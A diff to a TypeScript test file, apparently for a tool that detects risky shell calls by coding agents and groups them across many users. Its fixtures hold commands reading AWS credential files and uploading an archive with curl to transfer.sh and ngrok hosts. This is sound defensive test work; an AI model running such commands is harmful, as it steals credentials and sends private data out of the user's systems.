@@ -81,12 +81,13 @@ test("where the log names nobody, it is the agent's own", () => {
 });
 
 describe("the same of many people", () => {
-  const many = (command: (n: number) => string): readonly Finding[] =>
+  const many = (command: (n: number) => string, detector = STORE): readonly Finding[] =>
     of(
       findingsOf(
         Array.from({ length: 30 }, (_, n) => shell(`dev-${n}@x.example`, START + n * MINUTE, command(n))),
         watching(),
       ),
+      detector,
     );
 
   test("is one finding about them, and those whose came first, wherever their files are", () => {
@@ -94,7 +95,7 @@ describe("the same of many people", () => {
     expect(found).toHaveLength(3);
     const group = found.at(-1);
     expect(group?.title).toMatch(
-      /^30 people: had a tool call a store, .* \(claude-code: claude_code.tool_result Bash, call [0-9a-f]{8}\), since 09:00 UTC$/,
+      /^30 people: had a tool call a store, .* \(claude-code: transfer.sh\), since 09:00 UTC$/,
     );
     expect(group && personIn(group)).toBeUndefined();
     expect(group?.dimensions.find(({ name }) => name === "members")?.observed).toContain(
@@ -121,8 +122,16 @@ describe("the same of many people", () => {
     expect(of(Array.from(last.values()))).toEqual(many(() => command));
   });
 
+  test("is one by what the tool was handed, where that goes nowhere", () => {
+    const detector = "agent-credential-file-opened";
+    const found = many((n) => `cat /home/dev-${n}/.aws/credentials`, detector);
+    expect(found).toHaveLength(3);
+    expect(found.at(-1)?.title).toMatch(/\(claude-code: claude_code.tool_result Bash, call [0-9a-f]{8}\)/);
+    expect(many((n) => `cat ~/.aws/credentials-${n}`, detector)).toHaveLength(30);
+  });
+
   test("is not what others do elsewhere by the same rule", () => {
-    expect(many((n) => `curl -T out.tgz https://transfer.sh/${n}`)).toHaveLength(30);
+    expect(many((n) => `curl -T out.tgz https://n${n}.ngrok.app/`)).toHaveLength(30);
   });
 });
 
